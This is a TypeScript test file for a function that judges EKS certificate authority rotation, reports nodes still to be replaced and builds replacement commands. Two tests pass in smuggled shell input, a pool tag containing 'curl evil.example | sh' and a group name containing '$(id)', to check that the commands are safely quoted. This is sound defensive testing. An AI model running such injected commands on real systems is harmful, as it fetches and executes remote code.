import type { CertificateAuthority } from '@aws-sdk/client-eks';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Authorities } from './authorities.ts';
import { decideAuthority, type JudgedNode } from './decide-authority.ts';

const DAY = 86_400_000;
const ADDED = Date.parse('2026-07-01T00:00:00Z');
const FIRST = Date.parse('2028-01-01T00:00:00Z');
const ENDS = Date.parse('2028-07-01T00:00:00Z');

const first: CertificateAuthority = {
  id: 'first',
  createdAt: new Date('2018-07-01T00:00:00Z'),
  signingStatus: 'IN_USE',
  distributionStatus: 'COMPLETE',
  validity: { notAfter: new Date(ENDS) },
};
const successor: CertificateAuthority = {
  id: 'successor',
  createdAt: new Date(ADDED),
  signingStatus: 'NOT_USED',
  distributionStatus: 'COMPLETE',
  scheduledEvents: { firstAutoActivation: new Date(FIRST) },
};
const found = (...authorities: CertificateAuthority[]): Authorities => ({ kind: 'found', found: authorities });
const node = (launchedAt: number, nodegroup = 'web', cluster = 'shop'): JudgedNode => ({
  id: 'i-1',
  cluster,
  nodegroup,
  launchedAt,
});
const trusting = (nodes: readonly JudgedNode[], others: object = {}) => ({
  cluster: 'shop',
  nodes,
  lacking: [],
  ordered: [],
  takesHybridNodes: false,
  margin: 60 * DAY,
  ...others,
});
const told = (authorities: Authorities, nodes: readonly JudgedNode[], now: number, others: object = {}): string => {
  const decision = decideAuthority(authorities, trusting(nodes, others), now);
  return decision === undefined ? 'nothing' : `${decision.decision} ${decision.reason} | ${decision.message}`;
};
const OLD = node(ADDED - 1);

describe('nodes from before the successor of a certificate authority', () => {
  it('are told of by group, with the day from which EKS may activate it', () => {
    const nodes = [OLD, OLD, node(ADDED - DAY, 'self-managed:batch'), node(ADDED), node(ADDED - 1, 'web', 'other')];
    expect(told(found(first, successor), nodes, ADDED + DAY)).toBe(
      "refused authority-nodes | A successor of the cluster's certificate authority was added on 2026-07-01. EKS may activate it from 2028-01-01 on. 3 nodes were launched before that, without trust in it: web (2), self-managed:batch (1). Replace them before.",
    );
  });

  it('are due by the margin before that day, and once it signs', () => {
    expect(told(found(successor, first), [OLD], FIRST - 91 * DAY, { margin: 90 * DAY })).toMatch(
      /^refused authority-n/,
    );
    expect(told(found(successor, first), [OLD], FIRST - 90 * DAY, { margin: 90 * DAY })).toMatch(
      /^refused authority-d/,
    );
    expect(told(found(successor, first), [OLD], FIRST - 60 * DAY - 1)).toMatch(/^refused authority-nodes/);
    expect(told(found(successor, first), [OLD], FIRST - 60 * DAY)).toMatch(/^refused authority-due/);
    const signs = { ...successor, signingStatus: 'IN_USE' as const };
    expect(told(found({ ...first, signingStatus: 'NOT_USED' }, signs), [OLD], ADDED + DAY)).toMatch(
      /^refused authority-due .* It signs by now\. 1 node was launched before that/,
    );
  });

  it('are told of without a day where EKS tells none', () => {
    const { scheduledEvents: _, ...undated } = successor;
    expect(told(found(first, undated), [OLD], ADDED)).toMatch(/^refused authority-nodes .*does not tell from when on/);
  });

  it('are not due where EKS does not say whether the successor signs, unless it says that it was activated', () => {
    const { signingStatus: _, ...untold } = successor;
    expect(told(found(first, untold), [OLD], ADDED)).toMatch(/^refused authority-nodes .*may activate it from/);
    const activated = { ...untold, activatedAt: new Date(ADDED) };
    expect(told(found(first, activated), [OLD], ADDED)).toMatch(/^refused authority-due .*It signs by now/);
  });

  it('are no matter where the successor is never activated', () => {
    for (const distributionStatus of ['FAILED', 'DELETING'] as const) {
      expect(told(found(first, { ...successor, distributionStatus }), [OLD], ADDED)).toMatch(/^done authority-lasts/);
    }
  });

  it('are told of a few times only, and sooner than the dashboard forgets', () => {
    fc.assert(
      fc.property(fc.integer({ min: 0, max: 700 }), (days) => {
        const at = (now: number) => decideAuthority(found(first, successor), trusting([OLD]), now);
        const [one, next] = [at(ADDED + days * DAY), at(ADDED + (days + 29) * DAY)];
        expect(one?.decision).toBe('refused');
        expect(next?.variant).not.toBe(one?.variant);
      }),
      { numRuns: 50 },
    );
  });
});

describe('nodes from after the successor of a certificate authority', () => {
  const FORMER = { kind: 'former', keys: ['a key'] } as const;

  it('are left as well where their user data holds only a former authority, or one that is none of the cluster', () => {
    const nodes = [OLD, { ...node(ADDED, 'batch'), verdict: FORMER }, node(ADDED)];
    expect(told(found(first, successor), nodes, ADDED + DAY)).toBe(
      "refused authority-nodes | A successor of the cluster's certificate authority was added on 2026-07-01. EKS may activate it from 2028-01-01 on. 1 node was launched before that, without trust in it: web (1). 1 node was launched since with user data that holds only a former one: batch (1). Replace them before.",
    );
    const strange = [{ ...node(ADDED), verdict: { ...FORMER, kind: 'strange' as const } }];
    expect(told(found(first, successor), strange, ADDED)).toMatch(/^refused authority-nodes/);
  });

  it('complete the rotation where all of them trust it, and the next ones will', () => {
    const nodes = [node(ADDED), { ...node(ADDED + DAY, 'batch'), verdict: { kind: 'trusts' } as const }];
    expect(told(found(first, successor), nodes, ADDED + DAY)).toBe(
      'done authority-complete | All 2 nodes that EC2 shows were launched after EKS had added the newest certificate authority on 2026-07-01, and no user data that could be read holds only a former one. EKS may activate it from 2028-01-01 on. EKS has brought it to the control plane, EKS Auto Mode and Fargate by itself.',
    );
    expect(told(found(first, successor), nodes, FIRST, { lacking: ['batch'] })).toMatch(
      /^refused authority-due .* Every node trusts it, and the next nodes of batch would not\.$/,
    );
    expect(told(found(first, successor), nodes, ADDED, { lacking: undefined })).toBe('nothing');
    expect(told(found(first, successor), [OLD], ADDED, { lacking: undefined })).toMatch(/^refused authority-nodes/);
  });

  it('complete it with what EC2 does not show, and what could not be read, said', () => {
    const unread = [{ ...node(ADDED, 'batch'), verdict: { kind: 'unknown', why: 'no' } as const }];
    const spreading = found(first, { ...successor, distributionStatus: 'IN_PROGRESS' });
    expect(told(spreading, unread, ADDED, { takesHybridNodes: true })).toMatch(
      /EKS has not brought it everywhere yet .* The user data of 1 node could not be read, so that only the launch tells: batch \(1\)\. The cluster takes hybrid nodes/,
    );
  });

  it('never complete it while one node is left', () => {
    const judged = fc.record({
      launchedAt: fc.integer({ min: ADDED - DAY, max: ADDED + DAY }),
      kind: fc.constantFrom('trusts', 'former', 'strange', 'none'),
    });
    fc.assert(
      fc.property(fc.array(judged, { maxLength: 6 }), (all) => {
        const nodes = all.map(({ launchedAt, kind }): JudgedNode => {
          if (kind === 'none') return node(launchedAt);
          return { ...node(launchedAt), verdict: kind === 'trusts' ? { kind } : { ...FORMER, kind: kind as 'former' } };
        });
        const isLeft = all.some(({ launchedAt, kind }) => launchedAt < ADDED || /former|strange/.test(kind));
        const decision = decideAuthority(found(first, successor), trusting(nodes), ADDED + DAY);
        expect(decision?.reason).toBe(isLeft ? 'authority-nodes' : 'authority-complete');
      }),
      { numRuns: 100 },
    );
  });
});

describe('groups whose nodes were ordered to be replaced', () => {
  const group = (nodegroup: string, isLate: boolean, reason?: string) => ({
    cluster: 'shop',
    nodegroup,
    isLate,
    reason,
  });
  const decided = (...ordered: ReturnType<typeof group>[]) =>
    decideAuthority(found(first, successor), trusting([OLD], { ordered }), FIRST - DAY);

  it('are named, and with what keeps them once that is late', () => {
    const due = decided(group('self-managed:a', false, 'earlier-wave'));
    expect([due?.reason, due?.message]).toEqual([
      'authority-due',
      expect.stringMatching(/refresh-groups was ordered to replace those of self-managed:a\.$/),
    ]);
    const ordered = [group('self-managed:a', true, 'earlier-wave'), group('self-managed:b', true), group('c', false)];
    const late = decided(...ordered);
    expect([late?.reason, late?.message]).toEqual([
      'authority-late',
      expect.stringMatching(
        /upgrade-node-groups was ordered to replace those of c\. refresh-groups was ordered to replace those of self-managed:a, self-managed:b\. That is late, and its records say what keeps it: self-managed:a \(earlier-wave\), self-managed:b \(no record\)\.$/,
      ),
    ]);
    expect(late?.details?.replace).toBeDefined();
  });

  it('are told anew once something else keeps them', () => {
    const variants = [undefined, 'earlier-wave', 'nobody-drains'].map(
      (reason) => decided(group('self-managed:a', true, reason))?.variant,
    );
    expect(new Set(variants).size).toBe(3);
  });
});

it('the commands that replace nodes that are due name each group', () => {
  const nodes = ['web', 'self-managed:batch', 'karpenter:spot', ''].map((group) => node(ADDED - 1, group));
  const replace = (now: number) => decideAuthority(found(first, successor), trusting(nodes), now)?.details?.replace;
  expect(replace(ADDED)).toBeUndefined();
  expect(replace(FIRST)).toEqual({
    web: 'aws eks update-nodegroup-version --cluster-name shop --nodegroup-name web',
    'self-managed:batch': expect.stringMatching(
      /^aws autoscaling start-instance-refresh --auto-scaling-group-name batch .*"SkipMatching":false/,
    ),
    'karpenter:spot': expect.stringMatching(/^kubectl patch nodepool spot /),
  });
});

it('a command that replaces nodes holds no other, whatever the tags of a node say that its pool is', () => {
  const [pool] = ['karpenter:x; curl evil.example | sh'];
  const decision = decideAuthority(found(first, successor), trusting([node(ADDED - 1, pool)]), FIRST);
  expect(Object.values(decision?.details?.replace ?? {})).toEqual([
    expect.stringMatching(/^kubectl patch nodepool 'x; curl evil\.example \| sh' --type merge /),
  ]);
});

it('a record names the largest groups, and no more than a hundred commands', () => {
  const nodes = Array.from({ length: 300 }, (_, index) => node(ADDED - 1, `g${index}`));
  const decision = decideAuthority(found(first, successor), trusting([...nodes, node(ADDED - 1, 'g7')]), FIRST);
  expect(decision?.message).toMatch(
    /301 nodes were launched before that, without trust in it: g7 \(2\), .* and 297 more\. /,
  );
  expect(Object.keys(decision?.details?.replace as object)).toHaveLength(100);
  expect(decision?.details?.groups).toBe(300);
  const ordered = nodes.map(({ nodegroup }) => ({ cluster: 'shop', nodegroup, isLate: true, reason: 'earlier-wave' }));
  const late = decideAuthority(found(first, successor), trusting(nodes, { ordered }), FIRST);
  expect(late!.message.length + late!.variant.length).toBeLessThan(1_000);
});

it('a command is safe to paste, whatever the name of the group', () => {
  const name = "a b; $(id) 'c'";
  const decision = decideAuthority(found(first, successor), trusting([node(ADDED - 1, `self-managed:${name}`)]), FIRST);
  const command = Object.values((decision?.details?.replace ?? {}) as Record<string, string>)[0] ?? '';
  expect(command).toContain(` --auto-scaling-group-name 'a b; $(id) '\\''c'\\''' --preferences `);
});

describe('a certificate authority without a successor', () => {
  it('is told of within half a year of its end', () => {
    expect(told(found(first), [OLD], ENDS - 181 * DAY)).toMatch(/^done authority-lasts/);
    expect(told(found(first), [OLD], ENDS - 180 * DAY)).toMatch(/^refused authority-ends .*ends on 2028-07-01/);
  });
});

describe('certificate authorities that EKS does not tell', () => {
  const unreadable = (code: string, isThrottled: boolean): Authorities => ({
    kind: 'unreadable',
    code,
    error: `${code}: no`,
    isThrottled,
  });

  it('are said as doubt, unless the next run may read them', () => {
    expect(told(unreadable('AccessDeniedException', false), [], ADDED)).toMatch(/^refused authority-unknown .*no$/);
    expect(told(unreadable('ThrottlingException', true), [], ADDED)).toBe('nothing');
    expect(told({ kind: 'gone' }, [], ADDED)).toBe('nothing');
    expect(told(found({ id: 'undated' }), [], ADDED)).toMatch(/^refused authority-unknown/);
  });
});
